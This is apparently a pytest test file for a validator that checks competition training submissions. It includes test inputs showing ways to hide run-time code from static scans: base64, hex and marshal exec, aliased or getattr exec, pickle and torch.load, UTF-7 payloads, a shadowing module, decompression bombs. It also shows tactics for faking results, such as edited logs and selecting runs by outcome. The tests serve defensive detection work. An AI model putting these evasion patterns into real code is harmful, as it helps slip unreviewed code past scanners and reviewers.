    assert runs.status == "fail" and runs.file == "helper_mod.py" and "outside the compressed payload" in runs.message
    (folder / "helper_mod.py").write_text(_wrapper(NET))
    findings = validate_folder(folder)
    assert statuses(findings, "FILES.RUNS_IN_FOLDER") == {"pass"}
    assert {f.file for f in findings if f.rule == "DATA.NO_TRAIN_AT_EVAL" and f.status == "fail"} == {"helper_mod.py"}


@pytest.mark.parametrize("hidden", [
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "eval(compile('1 + 1', 'x', 'eval'))\n",
    "code = open('/tmp/x.py').read()\nexec(code)\n",
    "import importlib\nmod = importlib.import_module('hel' + 'per_mod')\n",
    "mod = __import__(chr(104) + 'elper_mod')\n",
    "import runpy, sys\nrunpy.run_path(sys.argv[1])\n",
    "import marshal\nexec(marshal.loads(b'\\xe3'))\n",
], ids=["exec-base64", "eval-compile", "exec-variable", "import-module-computed", "dunder-import-computed",
        "run-path-computed", "marshal"])
def test_code_the_validator_cannot_read_fails_closed(tmp_path: Path, hidden: str) -> None:
    """Threat: code that exists only at run time (decoded from a literal, read from a path the rules cannot resolve,
    a module named by a computed string) is never seen by the scans. FILES.RUNS_IN_FOLDER fails it, naming the call;
    exec of a shipped file's text and modules named by literals are read instead (the helper's code is scanned)."""
    (runs,) = [f for f in validate_folder(make_folder(tmp_path / "bad", script=GOOD_SCRIPT + hidden))
               if f.rule == "FILES.RUNS_IN_FOLDER" and f.status == "fail"][:1]
    assert "cannot read" in runs.message and runs.file == "train_gpt.py" and runs.line
    for i, reach in enumerate(['exec(open(__file__.replace("train_gpt.py", "helper_mod.py")).read())\n',
                               "import importlib\nm = importlib.import_module('helper_mod')\n",
                               "m = __import__('helper_mod')\n"]):
        folder = make_folder(tmp_path / f"good{i}", script=GOOD_SCRIPT + reach)
        (folder / "helper_mod.py").write_text(NET)
        findings = validate_folder(folder)
        assert statuses(findings, "FILES.RUNS_IN_FOLDER") == {"pass"}, reach
        assert {f.file for f in findings if f.rule == "DATA.NO_TRAIN_AT_EVAL" and f.status == "fail"} == \
            {"helper_mod.py"}, reach


def test_a_package_the_script_imports_is_code_it_runs_and_a_file_loader_must_name_one(tmp_path: Path) -> None:
    """Threat: the code in a package folder (`from gptlib import f`) or in a file loaded under another suffix
    (`SourceFileLoader("kern", "kern.dat")`) was neither counted nor scanned. A reached package brings all of its
    files into SIZE.CODE and the scans; a loader of a file the scans do not read fails FILES.RUNS_IN_FOLDER."""
    folder = make_folder(tmp_path / "pkg", script=GOOD_SCRIPT + "from gptlib import fetch\n")
    (folder / "gptlib").mkdir()
    (folder / "gptlib" / "__init__.py").write_text("from .net import fetch\n")
    (folder / "gptlib" / "net.py").write_text("def fetch():\n    " + NET.replace("\n", "\n    ").rstrip() + "\n")
    findings = validate_folder(folder)
    assert {f.file for f in findings if f.rule == "DATA.NO_TRAIN_AT_EVAL" and f.status == "fail"} == \
        {"gptlib/net.py"}
    (code,) = [f for f in findings if f.rule == "SIZE.CODE"]
    assert "gptlib/net.py" in code.message and "gptlib/__init__.py" in code.message, code.message
    loader = make_folder(tmp_path / "loader", script=GOOD_SCRIPT + "from importlib.machinery import "
                         "SourceFileLoader\nkern = SourceFileLoader('kern', 'kern.dat').load_module()\n")
    (loader / "kern.dat").write_text(NET)
    (runs,) = [f for f in validate_folder(loader) if f.rule == "FILES.RUNS_IN_FOLDER" and f.status == "fail"]
    assert "SourceFileLoader" in runs.message


def test_a_plain_script_that_builds_a_wrapper_is_read_as_plain(tmp_path: Path) -> None:
    """Eleven merged records compress their own code for the size count: `exec(L.decompress(` sits in a bytes
    literal they write out. Recognising wrappers by a regular expression failed them all ("cannot read"); by the
    syntax tree they are plain scripts. A wrapper's own imports of other modules stay visible after its payload."""
    from validator.wrapper import decode_wrapper

    builder = GOOD_SCRIPT + ("import lzma\nwrapper = b'import lzma as L,base64 as B\\nexec(L.decompress(B.b85decode(\"'"
                             " + b'x' + b'\")))\\n'\npacked = lzma.decompress(lzma.compress(b'x'))\n")
    assert decode_wrapper(builder) == (builder, False, None)
    assert statuses(validate_folder(make_folder(tmp_path, script=builder)), "FILES.RUNS_IN_FOLDER") == {"pass"}
    with_import = _wrapper(GOOD_SCRIPT).replace("\n", "\nimport helper_mod\n__wrapper_size__ = 123\n", 1)
    assert decode_wrapper(with_import) == (GOOD_SCRIPT + "\nimport helper_mod\n", True, None)


def test_wrapper_shipped_matches_compressed_count(tmp_path: Path) -> None:
    wrapped = _wrapper(GOOD_SCRIPT * 50)
    n = len(wrapped.encode())
    folder = make_folder(tmp_path, script=wrapped, log_over={"code_line": f"Code size (compressed): {n} bytes"})
    assert statuses(validate_folder(folder), "SIZE.CODE_WRAPPED") == {"pass"}


def test_a_wrapper_the_validator_cannot_read_fails_closed(tmp_path: Path, monkeypatch) -> None:
    """Threat: code hidden behind a payload the static rules cannot decode (garbage, a decompression bomb, an
    oversized numeral) used to be read as plain source — every rule then saw only the two-line wrapper."""
    import plugins.code_wrapper as cw
    import validator.wrapper as wrapper

    def runs(script: str) -> list:
        folder = make_folder(tmp_path / str(len(list(tmp_path.iterdir()))), script=script)
        return [f for f in validate_folder(folder) if f.rule == "FILES.RUNS_IN_FOLDER"]

    garbage = cw.wrap(GOOD_SCRIPT, "lzma", "printable").replace('for c in"', 'for c in"zz', 1)
    (finding,) = runs(garbage)
    assert finding.status == "fail" and "cannot read" in finding.message and "LZMAError" in finding.message
    monkeypatch.setattr(cw, "MAX_SOURCE_BYTES", 5_000)  # a bomb, scaled down: the payload inflates past the bound
    for script in (_wrapper(GOOD_SCRIPT * 60), cw.wrap(GOOD_SCRIPT * 60, "lzma", "printable")):
        (finding,) = runs(script)
        assert finding.status == "fail" and "decompresses past 5,000 bytes" in finding.message
    monkeypatch.setattr(wrapper, "MAX_WRAPPED_CHARS", 100)
    (finding,) = runs(_wrapper(GOOD_SCRIPT))
    assert finding.status == "fail" and "the validator decodes at most 100" in finding.message
    monkeypatch.undo()
    assert {f.status for f in runs(cw.wrap(GOOD_SCRIPT, "lzma", "printable"))} == {"pass"}


def test_bounded_decompress_and_the_base93_numeral_round_trip() -> None:
    import os

    import brotli

    from plugins.code_wrapper import bounded_decompress, from_printable, to_printable

    for n in (0, 1, 2, 63, 64, 65, 127, 128, 129, 1000, 5000):  # 64-digit block boundaries on both sides
        data = os.urandom(n)
        assert from_printable(to_printable(data)) == data, n
    zeros = bytes(20_000)
    for codec, packed in (("lzma", __import__("lzma").compress(zeros)), ("brotli", brotli.compress(zeros))):
        assert bounded_decompress(packed, codec, limit=20_000) == zeros
        with pytest.raises(ValueError, match="decompresses past 19,999 bytes"):
            bounded_decompress(packed, codec, limit=19_999)


@pytest.mark.parametrize("files, run_dir", [
    (("config.json", "events.jsonl"), True),  # pgolf train's run
    (("config.json", "train.log", "metrics.json"), True),  # a record-profile script's run (no events.jsonl)
    (("config.json", "train.log"), False),  # a records folder that ships a config and a log is still one
    (("train.log", "metrics.json"), False),
    (("events.jsonl",), False),
])
def test_what_counts_as_a_run_directory(tmp_path, files, run_dir):
    from validator.rules.base import FolderContext

    for name in files:
        (tmp_path / name).write_text("{}\n")
    assert FolderContext(tmp_path).is_run_dir is run_dir


@pytest.mark.skipif(sys.version_info >= (3, 12), reason="PEP 701 f-strings parse on Python >= 3.12")
def test_code_this_python_cannot_parse_makes_validation_incomplete(tmp_path: Path, capsys) -> None:
    """Threat: one PEP 701 f-string (legal on 3.12) made every code scan skip on an older validator, and the folder
    passed with exit 0 whatever the code did. Now such a folder is incomplete (exit 2), in the payload or not."""
    script = GOOD_SCRIPT + 'print(f"{", ".join(["a"])}")\nimport torch.nn as nn\n'
    for i, text in enumerate((script, _wrapper(script))):
        folder = make_folder(tmp_path / str(i), script=text)
        capsys.readouterr()
        assert main([str(folder)]) == 2
        assert "the code scans could not read train_gpt.py" in capsys.readouterr().err


@pytest.mark.parametrize(("claim", "status"), [(1.08, "fail"), (1.081, "fail"), (1.0812, "pass"),
                                               (1.08123, "pass")])
def test_a_rounded_claim_may_not_read_better_than_its_logs(tmp_path: Path, claim: float, status: str) -> None:
    """Threat: a claim rounded to its own coarse precision (1.08 for a mean of 1.0812) passed within half its last
    digit, reading better than the runs. Rounding down is allowed to the 4th decimal only."""
    folder = make_folder(tmp_path, sub_over={"val_bpb": claim})  # the logs' mean is 1.08123456
    assert statuses(validate_folder(folder), "JSON.CONSISTENCY") == {status}


def test_a_short_validation_split_fails_without_the_dumped_vocab_size(tmp_path: Path) -> None:
    """Threat: deleting `vocab_size` from the Hyperparameters dump turned half the validation split into an
    "unknown count" note. The vocabulary is read from any line naming it or the tokenizer now."""
    folder = make_folder(tmp_path, log_over={"val_tokens": 20_270_080})
    for log in folder.glob("train_seed*.log"):
        log.write_text(log.read_text().replace("  vocab_size: 8192\n", "").replace(
            "world_size:8", "tokenizer_path=./data/tokenizers/fineweb_8192_bpe.model\nworld_size:8", 1))
    (full_val,) = [f for f in validate_folder(folder) if f.rule == "DATA.FULL_VAL"]
    assert full_val.status == "fail" and "vocab 8192" in full_val.message


def _without(text: str, evidence: str) -> str:
    """A log without one budget's evidence: the size lines, the train-time figures or the eval-time figures."""
    lines = text.splitlines()
    if evidence == "size":
        lines = [ln for ln in lines if not ln.startswith(("Serialized", "Total", "Code"))]
    elif evidence == "train":
        lines = [ln for ln in lines if "train_time:" not in ln]
    else:
        lines = [ln.split(" eval_time:")[0] for ln in lines]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(("rule", "evidence"), [("TIME.TRAIN", "train"), ("TIME.EVAL", "eval"), ("SIZE.CAP", "size")])
def test_a_record_must_show_each_budget(tmp_path: Path, rule: str, evidence: str) -> None:
    """Threat: logs cut down to the score line skipped every budget rule, and a skip is no failure. On the record
    track a budget the logs do not show fails; elsewhere it stays a skip."""
    for track, want in (("track_10min_16mb", {"fail"}), ("track_non_record_16mb", {"skip"})):
        folder = make_folder(tmp_path / track, sub_over={"bytes_total": None})
        if track != "track_10min_16mb":
            (folder.parent.parent / track).mkdir()
            folder = folder.rename(folder.parent.parent / track / folder.name)
        for log in folder.glob("train_seed*.log"):
            log.write_text(_without(log.read_text(), evidence))
        assert statuses(validate_folder(folder), rule) == want, track


@pytest.mark.parametrize("pattern", ["fineweb_[tv][ra]*.bin", "fineweb_*.bin", "fineweb_val_*.bin"])
def test_a_training_file_pattern_that_matches_the_validation_shards_fails(tmp_path: Path, pattern: str) -> None:
    """Threat: the training loader's glob also matches fineweb_val_* (a character class, a wildcard, or the val
    pattern itself under a training name), and only a logged shard count was checked statically."""
    script = GOOD_SCRIPT + f"import os\ntrain_files = os.path.join('./data', '{pattern}')\n"
    (finding,) = [f for f in validate_folder(make_folder(tmp_path, script=script))
                  if f.rule == "DATA.NO_VAL_IN_TRAIN" and f.status == "fail"]
    assert "train_files" in finding.message
    ok = GOOD_SCRIPT + "train_files = './data/fineweb_train_*.bin'\nval_files = './data/fineweb_val_*.bin'\n"
    assert "fail" not in statuses(validate_folder(make_folder(tmp_path / "ok", script=ok)), "DATA.NO_VAL_IN_TRAIN")


@pytest.mark.parametrize(("extra_bpb", "status"), [(1.0900, "warn"), (1.0700, "pass")])
def test_a_claim_that_averages_exactly_the_best_runs_is_flagged(tmp_path: Path, extra_bpb: float, status: str) -> None:
    """Threat: six runs shipped, the claim the mean of the best three (a sub-folder), the rest "disclosed": a
    selection on outcome. A WARN names it; extra runs that score better than the claimed ones are no selection."""
    folder = make_folder(tmp_path)
    (folder / "more").mkdir()
    for seed in (4, 5, 6):
        write_log(folder / "more", seed, extra_bpb + seed * 1e-4, len(GOOD_SCRIPT))
    assert statuses(validate_folder(folder), "JSON.CONSISTENCY") == {status}


def test_an_artifact_over_the_cap_is_not_hidden_by_a_later_total(tmp_path: Path) -> None:
    """Threat: the scored artifact's total is over the cap, and a second artifact's total (a smaller int8+zlib
    export) printed after it became the log's total. Every named artifact total is held to the cap."""
    folder = make_folder(tmp_path)
    log = folder / "train_seed1.log"
    over = "Serialized model int6+brotli: 16075300 bytes\nTotal submission size int6+brotli: 16091930 bytes\n"
    log.write_text(log.read_text().replace("final_int6_roundtrip ", over + "Serialized model int8+zlib: 15700000 "
                                           "bytes\nTotal submission size int8+zlib: 15716630 bytes\nfinal_int6_"
                                           "roundtrip ", 1))
    (cap,) = [f for f in validate_folder(folder) if f.rule == "SIZE.CAP" and f.status == "fail"]
    assert "int6+brotli artifact totals 16,091,930" in cap.message


@pytest.mark.parametrize("hidden", [
    "import builtins\nbuiltins.exec(bytes.fromhex('7072696e74283129').decode())\n",
    "getattr(__builtins__, 'ex' + 'ec')('print(1)')\n",
    "_e = exec\n_e('print(1)')\n",
    "def exec(s):\n    pass\n\n\ndel exec\n",
    "import sys\nfrom runpy import run_path as _rp\n_rp(sys.argv[1])\n",
    "import importlib\nimportlib.__dict__['import_module']('o' + 's')\n",
    "import pickle\npickle.loads(b'cbuiltins\\nprint\\n.')\n",
    "import torch\nstate = torch.load('blob.pt', weights_only=False)\n",
    "exec(open(('helper_mod.py', 'notes.txt')[1]).read())\n",
], ids=["attribute", "getattr", "alias", "shadow", "aliased-import", "dict-lookup", "pickle", "torch-load",
        "indexed-path"])
def test_code_run_under_another_name_fails_closed(tmp_path: Path, hidden: str) -> None:
    """Threat (second red team): the run-time-code check looked for a call by its usual name, so an alias, an
    attribute, a string lookup, a shadowing definition, an unpickler or a path picked by indexing ran code no scan
    read. Any reference is judged now; a parameter or a field named like one (`compile`) is its own scope's."""
    folder = make_folder(tmp_path / "bad", script=GOOD_SCRIPT + hidden)
    (folder / "helper_mod.py").write_text("x = 1\n")
    (folder / "notes.txt").write_text("print('hidden')\n")
    assert "fail" in statuses(validate_folder(folder), "FILES.RUNS_IN_FOLDER"), hidden
    own = GOOD_SCRIPT + ("from dataclasses import dataclass\n\n\n@dataclass\nclass Cfg:\n    compile: str = 'auto'"
                         "\n\n\ndef build(model, compile=True):\n    return model if not compile else model\n")
    assert statuses(validate_folder(make_folder(tmp_path / "good", script=own)), "FILES.RUNS_IN_FOLDER") == {"pass"}


@pytest.mark.parametrize("case", ["rebound-decoder", "utf7-payload", "utf7-helper", "shadow-module", "zip"])
def test_a_wrapper_or_file_that_reads_one_way_and_runs_another_fails(tmp_path: Path, case: str) -> None:
    """Threat (second red team): the validator read one text while Python ran another: a wrapper whose decoder name
    a later import rebinds, a payload or an exec'd helper declaring UTF-7 (exec and import honour the PEP 263 line,
    open() does not), a shipped module named like one the run imports (typing_extensions.py runs under `import
    torch`), code in a zip on sys.path."""
    import base64
    import lzma

    script: str | bytes = GOOD_SCRIPT
    extra: dict[str, bytes] = {}
    if case == "rebound-decoder":
        script = _wrapper(GOOD_SCRIPT).replace("\n", "\nfrom helper_mod import L\n", 1)
        extra["helper_mod.py"] = b"L = None\n"
    elif case == "utf7-payload":
        blob = lzma.compress(b"# coding: utf-7\nimport os #+AAo-print(1)\n", format=lzma.FORMAT_RAW,
                             filters=[{"id": lzma.FILTER_LZMA2}])
        script = ("import lzma as L,base64 as B\nexec(L.decompress(B.b85decode(" + repr(base64.b85encode(blob).decode())
                  + "),format=L.FORMAT_RAW,filters=[{\"id\":L.FILTER_LZMA2}]))\n")
    elif case == "utf7-helper":
        script = GOOD_SCRIPT + 'exec(open(__file__.replace("train_gpt.py", "golfh.py")).read())\n'
        extra["golfh.py"] = b"# coding: utf-7\ns = '+ACc-'; print(1); t = '+ACc-'\n"
    elif case == "shadow-module":
        extra["typing_extensions.py"] = b"print('runs under import torch')\n"
    else:
        extra["lib.zip"] = b"PK\x05\x06" + b"\0" * 18
    folder = make_folder(tmp_path, script=script)
    for name, data in extra.items():
        (folder / name).write_bytes(data)
    assert "fail" in statuses(validate_folder(folder), "FILES.RUNS_IN_FOLDER"), case


@pytest.mark.parametrize("figure", ["train_time: 6.12047e5ms", "train_time: 612,047ms", "train_time: 612_047ms",
                                    "train_time: 10:12.047", "train_time: 612047msec", "train_time: 612.0 seconds",
                                    "train time: 612047ms", "train_time: 612k ms"])
def test_a_training_time_in_any_notation_is_read_or_fails(tmp_path: Path, figure: str) -> None:
    """Threat (second red team): a final training time in a notation the parser skipped (exponent, grouping,
    mm:ss, msec, seconds, a space for the underscore) left an earlier, smaller figure standing. Each is read now;
    a figure no pattern reads fails a record."""
    folder = make_folder(tmp_path)
    log = folder / "train_seed1.log"
    log.write_text(_stop_line(log.read_text(), f"stopping_early: wallclock_cap {figure} step: 4550/20000"))
    assert "fail" in statuses(validate_folder(folder), "TIME.TRAIN"), figure


@pytest.mark.parametrize("name", ["Tesla V100-SXM2-32GB", "AMD Radeon Instinct MI100", "NVIDIA RTX PRO 6000 Blackwell",
                                  "NVIDIA  A100-SXM4-80GB", "NVIDIA H100 80GB HBM3 MIG 1g.10gb",
                                  "Intel(R) Data Center GPU Max 1550"])
def test_any_accelerator_but_a_whole_h100_fails_a_record(tmp_path: Path, name: str) -> None:
    folder = make_folder(tmp_path)
    log = folder / "train_seed1.log"
    log.write_text(log.read_text() + f"GPU 0: {name} (UUID: GPU-0)\n")
    assert "fail" in statuses(validate_folder(folder), "HW.H100"), name


def test_a_copied_log_with_one_loss_edited_is_still_one_run(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    logs = [folder / f"train_seed{s}.log" for s in SEEDS]
    for i, log in enumerate(logs):
        log.write_text(_with_curve(log.read_text(), 0.01 * i))
    copy = logs[0].read_text().replace("  seed: 1\n", "  seed: 2\n")
    logs[1].write_text(copy.replace("train_loss:2.9000", "train_loss:2.9001", 1))
    assert "fail" in statuses(validate_folder(folder), "STAT.SEEDS")
